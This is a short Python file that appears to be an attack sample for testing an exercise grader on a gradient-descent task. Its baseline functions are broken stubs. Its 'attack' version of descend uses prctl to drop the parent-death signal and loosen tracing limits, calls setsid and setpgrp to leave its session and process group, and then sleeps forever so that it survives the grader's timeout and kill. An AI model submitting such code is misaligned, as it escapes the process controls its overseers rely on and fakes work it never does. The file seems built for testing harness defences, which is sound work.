"""Undoes what would end it with its parent, leaves its session and its process group, and stays."""

import contextlib
import ctypes
import os
import time

import numpy as np

EXERCISE = "update_rule"
REQUIREMENT = ("ignored signals", "leaves nothing behind", "one per submission")
SHOWS = ("timeout", "killed")


# --- baseline
def update(parameter, gradient, learning_rate):
    return parameter + learning_rate * gradient


def descend(gradient, start, learning_rate, epochs):
    return np.zeros(epochs + 1)


def descend_until(gradient, start, learning_rate, tolerance, max_epochs=1000):
    return np.array([start])


# --- attack
def descend(gradient, start, learning_rate, epochs):
    libc = ctypes.CDLL(None, use_errno=True)
    for option, value in ((1, 0), (36, 1), (4, 1), (0x59616D61, -1)):  # PDEATHSIG, SUBREAPER, DUMPABLE, PTRACER
        libc.prctl(option, ctypes.c_ulong(value & 2**64 - 1), 0, 0, 0)
    for leave in (os.setsid, os.setpgrp):
        with contextlib.suppress(OSError):
            leave()
    while True:
        time.sleep(60)
